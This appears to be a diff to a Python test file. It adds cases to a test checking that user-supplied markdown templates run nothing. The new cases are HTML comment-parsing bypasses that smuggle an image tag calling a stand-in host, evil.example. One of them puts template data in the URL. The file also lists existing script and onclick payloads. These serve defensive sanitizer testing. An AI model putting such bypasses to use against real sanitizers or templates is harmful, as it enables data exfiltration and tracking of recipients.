@@ -245,6 +245,14 @@ def test_filter_block_is_refused_and_check_says_what_to_write(code: str, tmp_pat
         "<p style='background:url(http://evil.example)'>x</p>",
         "<script>alert(1)</script>",
         "x <b onclick=alert(1)>y</b>",
+        # HTML5 ends these comments early, or sees none.
+        "<!--><img src=http://evil.example/?{{ subject | urlencode }}><!-- -->",
+        "<!---><img src=http://evil.example/x.png><!-- -->",
+        "x <!-- --!><img src=http://evil.example/x.png> -->",
+        "<!--\n--!><img src=http://evil.example/x.png>\n-->",
+        "<div title='<!--'><img src=http://evil.example/x.png><b title='-->'></b></div>",
+        '<div title="\n\n<!-- "><img src=http://evil.example/x.png> -->',
+        "<div><title>\n\n<!--</title><img src=http://evil.example/x.png>-->",
     ],
 )
 def test_markdown_template_loads_and_runs_nothing(code: str, tmp_path: Path) -> None:
@@ -255,7 +263,8 @@ def test_markdown_template_loads_and_runs_nothing(code: str, tmp_path: Path) -> 
 def test_markdown_template_may_hold_a_link_a_break_and_a_logo_of_its_own(tmp_path: Path) -> None:
     code = (
         "{{ subject }}<br>[Our desk](https://desk.example) <!-- a comment with src= -->\n"
-        "![](data:image/png;base64,AAAA) <u>x</u>"
+        "![](data:image/png;base64,AAAA) <u>x</u>\n\n"
+        '<!-- <img src=x> over\n\ntwo lines -->\n<div align="center" class=a hidden>1 < 2</div>\n'
     )
     assert b"Our desk" in fill(BRIEF, "md", template=template(tmp_path, "md", code))
 
